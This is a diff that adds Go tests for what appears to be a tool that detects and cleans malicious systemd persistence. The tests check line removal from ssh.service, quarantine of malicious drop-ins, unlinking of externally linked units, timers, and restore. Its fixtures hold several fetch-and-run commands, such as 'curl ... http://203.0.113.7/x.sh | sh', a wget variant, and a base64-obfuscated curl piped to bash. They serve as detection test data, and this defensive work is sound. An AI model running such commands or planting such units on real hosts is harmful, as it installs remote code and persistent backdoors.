@@ -8,8 +8,10 @@ import (
 	"path/filepath"
 	"strings"
 	"testing"
+	"time"
 
 	"github.com/abusekit/abusekit/plugins/persist/hosttest"
+	"github.com/google/go-cmp/cmp"
 )
 
 // treatAsLive makes dir count as this host's live root for the test, and
@@ -132,4 +134,203 @@ func storedFiles(t *testing.T, q string) int {
 		return nil
 	})
 	return n
+}
+
+func planOps(plan *CleanPlan) map[string]Change {
+	m := map[string]Change{}
+	for _, c := range plan.Changes {
+		m[c.Path] = c
+	}
+	return m
+}
+
+func findPlan(t *testing.T, dir string, opts PlanOptions) ([]Finding, *CleanPlan) {
+	t.Helper()
+	fs := find(t, dir, time.Time{})
+	opts.Root = dir
+	plan, err := Plan(context.Background(), fs, opts)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return fs, plan
+}
+
+// One injected line in a packaged unit (ssh.service) must not lock the
+// operator out: only the line goes, the unit stays enabled (its wants
+// link and its sshd.service alias stay), and Restore brings the line
+// back. A drop-in of the malware's own is quarantined whole, never the
+// unit it extends.
+func TestPackagedUnitKeepsServiceEnabled(t *testing.T) {
+	ctx := context.Background()
+	const unit = "/usr/lib/systemd/system/ssh.service"
+	bad := "ExecStartPost=/bin/sh -c 'curl -fsSL http://203.0.113.7/x.sh | sh'"
+	base := hosttest.Debian12()
+	stock, _ := base.Get(unit)
+	e := stock
+	e.Data = strings.Replace(e.Data, "ExecStartPre=/usr/sbin/sshd -t\n", "ExecStartPre=/usr/sbin/sshd -t\n"+bad+"\n", 1)
+	dir := build(t, base.With(e, hosttest.Entry{Path: "/etc/systemd/system/ssh.service.d/override.conf",
+		Data: "[Service]\nExecStartPost=/var/tmp/.k/k\n", Mtime: hosttest.InfectionTime}))
+	before := snapshot(t, dir)
+	found, plan := findPlan(t, dir, PlanOptions{})
+	f, ok := findingAt(found, unit, 10)
+	if !ok || f.Action != ActionRemoveLine || f.Content != bad || f.Package != "openssh-server" ||
+		!strings.Contains(strings.Join(f.Reasons, ";"), "reinstall openssh-server") {
+		t.Errorf("finding on the packaged unit: %+v (found %v)", f, ok)
+	}
+	ops := planOps(plan)
+	want := []LineChange{{Line: 10, Content: bad}}
+	if c := ops[unit]; c.Op != OpRemoveLines || !cmp.Equal(c.Lines, want) {
+		t.Errorf("plan for %s: %+v, want remove-lines %v", unit, c, want)
+	}
+	if c := ops["/etc/systemd/system/ssh.service.d/override.conf"]; c.Op != OpQuarantine {
+		t.Errorf("drop-in: %+v, want quarantine", c)
+	}
+	for _, p := range []string{"/etc/systemd/system/multi-user.target.wants/ssh.service", "/etc/systemd/system/sshd.service", "/usr/lib/systemd/system/ssh.service.d"} {
+		if c, ok := ops[p]; ok {
+			t.Errorf("plan touches %s: %+v (locks sshd out)", p, c)
+		}
+	}
+	res, err := Apply(ctx, plan, ApplyOptions{QuarantineDir: t.TempDir()})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, l := range []string{"etc/systemd/system/multi-user.target.wants/ssh.service", "etc/systemd/system/sshd.service"} {
+		if tgt, err := os.Readlink(filepath.Join(dir, l)); err != nil || tgt != "/lib/systemd/system/ssh.service" {
+			t.Errorf("%s after Apply: %q, %v (service no longer enabled)", l, tgt, err)
+		}
+	}
+	if got := mustRead(t, dir, unit); got != stock.Data {
+		t.Errorf("ssh.service after Apply is not the stock unit:\n%s", cmp.Diff(stock.Data, got))
+	}
+	if _, err := os.Lstat(filepath.Join(dir, "etc/systemd/system/ssh.service.d/override.conf")); !errors.Is(err, fs.ErrNotExist) {
+		t.Errorf("malicious drop-in still there: %v", err)
+	}
+	if _, err := Restore(ctx, res.ManifestPath, RestoreOptions{}); err != nil {
+		t.Fatal(err)
+	}
+	if diff := cmp.Diff(before, snapshot(t, dir)); diff != "" {
+		t.Errorf("restore is not identical (-before +after):\n%s", diff)
+	}
+}
+
+// The other ways a packaged unit reaches Plan: an administrator's full
+// copy in /etc (systemctl edit --full) with a directive continued over
+// two lines, and a finding that asks to disable a packaged unit (from an
+// older Find, or JSON): only lines go.
+func TestPackagedUnitLinesOnly(t *testing.T) {
+	ctx := context.Background()
+	base := hosttest.Debian12()
+	stock, _ := base.Get("/usr/lib/systemd/system/ssh.service")
+	first, second := "ExecStartPost=/bin/sh -c \\", "  'wget -qO- http://203.0.113.7/k | sh'"
+	copyUnit := strings.Replace(stock.Data, "ExecStartPre=/usr/sbin/sshd -t\n", "ExecStartPre=/usr/sbin/sshd -t\n"+first+"\n"+second+"\n", 1)
+	dir := build(t, base.With(hosttest.Entry{Path: "/etc/systemd/system/ssh.service", Data: copyUnit, Mtime: hosttest.InfectionTime}))
+	fs, plan := findPlan(t, dir, PlanOptions{})
+	ops := planOps(plan)
+	want := []LineChange{{Line: 10, Content: first}, {Line: 11, Content: second}}
+	if c := ops["/etc/systemd/system/ssh.service"]; c.Op != OpRemoveLines || !cmp.Equal(c.Lines, want) {
+		t.Errorf("full copy of a packaged unit: %+v, want remove-lines %v\n%s", c, want, dump(fs))
+	}
+	if _, ok := ops["/etc/systemd/system/multi-user.target.wants/ssh.service"]; ok {
+		t.Error("plan disables the copy of a packaged unit")
+	}
+
+	// A disable-unit finding on a packaged unit.
+	vdir := build(t, base)
+	plan, err := Plan(ctx, []Finding{{Path: "/usr/lib/systemd/system/ssh.service", Line: 9, Kind: KindSystemd, Severity: Critical,
+		Action: ActionDisableUnit, Unit: "ssh.service", Package: "openssh-server", Reasons: []string{"test"}}}, PlanOptions{Root: vdir})
+	if err != nil {
+		t.Fatal(err)
+	}
+	got := planOps(plan)
+	if len(got) != 1 || got["/usr/lib/systemd/system/ssh.service"].Op != OpRemoveLines ||
+		!cmp.Equal(got["/usr/lib/systemd/system/ssh.service"].Lines, []LineChange{{Line: 9, Content: "ExecStartPre=/usr/sbin/sshd -t"}}) {
+		t.Errorf("disable-unit on a packaged unit planned %+v", plan.Changes)
+	}
+}
+
+// A unit linked into the unit directories from elsewhere (systemctl link
+// /opt/evil/evil.service; or only a wants link to a file elsewhere) is
+// judged by the file it resolves to, within the root, and Plan
+// quarantines that file and removes its links.
+func TestLinkedUnitFromOutside(t *testing.T) {
+	ctx := context.Background()
+	dir := build(t, hosttest.Debian12().With(
+		hosttest.Entry{Path: "/opt/evil/evil.service", Data: "[Service]\nExecStart=/bin/sh -c 'curl -fsSL http://203.0.113.7/i.sh | sh'\n[Install]\nWantedBy=multi-user.target\n", Mtime: hosttest.InfectionTime},
+		hosttest.Entry{Path: "/etc/systemd/system/evil.service", Link: "/opt/evil/evil.service"},
+		hosttest.Entry{Path: "/etc/systemd/system/multi-user.target.wants/evil.service", Link: "/opt/evil/evil.service"},
+		hosttest.Entry{Path: "/srv/x/agent.service", Data: "[Service]\nExecStart=/var/tmp/.a/agent\n", Mtime: hosttest.InfectionTime},
+		hosttest.Entry{Path: "/etc/systemd/system/default.target.wants/agent.service", Link: "../../../../srv/x/agent.service"},
+	))
+	before := snapshot(t, dir)
+	fs, plan := findPlan(t, dir, PlanOptions{})
+	checkWant(t, fs, []want{
+		{"/opt/evil/evil.service", 2, KindSystemd, Critical, ActionDisableUnit},
+		{"/srv/x/agent.service", 2, KindSystemd, High, ActionDisableUnit},
+	})
+	ops := planOps(plan)
+	for p, op := range map[string]Op{
+		"/opt/evil/evil.service":                                   OpQuarantine,
+		"/etc/systemd/system/evil.service":                         OpUnlink,
+		"/etc/systemd/system/multi-user.target.wants/evil.service": OpUnlink,
+		"/srv/x/agent.service":                                     OpQuarantine,
+		"/etc/systemd/system/default.target.wants/agent.service":   OpUnlink,
+	} {
+		if ops[p].Op != op {
+			t.Errorf("plan for %s = %q, want %q", p, ops[p].Op, op)
+		}
+	}
+	if t.Failed() {
+		t.Log(dump(fs))
+	}
+	res, err := Apply(ctx, plan, ApplyOptions{QuarantineDir: t.TempDir()})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, f := range find(t, dir, time.Time{}) {
+		if f.Severity >= High {
+			t.Errorf("after Apply: %s", f)
+		}
+	}
+	if _, err := Restore(ctx, res.ManifestPath, RestoreOptions{}); err != nil {
+		t.Fatal(err)
+	}
+	if diff := cmp.Diff(before, snapshot(t, dir)); diff != "" {
+		t.Errorf("restore is not identical (-before +after):\n%s", diff)
+	}
+}
+
+// A timer that starts a service of another name (Unit=helper.service):
+// disabling the bad service takes the timer that starts it (and its
+// enabling link) too, and disabling the timer takes the service.
+func TestPlanTimerOfOtherService(t *testing.T) {
+	ctx := context.Background()
+	dir := build(t, hosttest.AmazonLinux2023().With(
+		hosttest.Entry{Path: "/etc/systemd/system/upd.timer", Data: "[Timer]\nOnCalendar=hourly\nUnit=helper.service\n[Install]\nWantedBy=timers.target\n"},
+		hosttest.Entry{Path: "/etc/systemd/system/timers.target.wants/upd.timer", Link: "/etc/systemd/system/upd.timer"},
+		hosttest.Entry{Path: "/etc/systemd/system/helper.service", Data: "[Service]\nType=oneshot\nExecStart=/bin/bash -c 'echo Y3VybCB4fHNo | base64 -d | bash'\n"},
+	))
+	wantOps := map[string]Op{
+		"/etc/systemd/system/helper.service":                OpQuarantine,
+		"/etc/systemd/system/upd.timer":                     OpQuarantine,
+		"/etc/systemd/system/timers.target.wants/upd.timer": OpUnlink,
+	}
+	_, plan := findPlan(t, dir, PlanOptions{})
+	got := map[string]Op{}
+	for _, c := range plan.Changes {
+		got[c.Path] = c.Op
+	}
+	if diff := cmp.Diff(wantOps, got); diff != "" {
+		t.Errorf("plan from the service (-want +got):\n%s", diff)
+	}
+	plan, err := Plan(ctx, []Finding{{Path: "/etc/systemd/system/upd.timer", Kind: KindSystemd, Severity: High, Action: ActionDisableUnit, Reasons: []string{"test"}}}, PlanOptions{Root: dir})
+	if err != nil {
+		t.Fatal(err)
+	}
+	got = map[string]Op{}
+	for _, c := range plan.Changes {
+		got[c.Path] = c.Op
+	}
+	if diff := cmp.Diff(wantOps, got); diff != "" {
+		t.Errorf("plan from the timer (-want +got):\n%s", diff)
+	}
 }
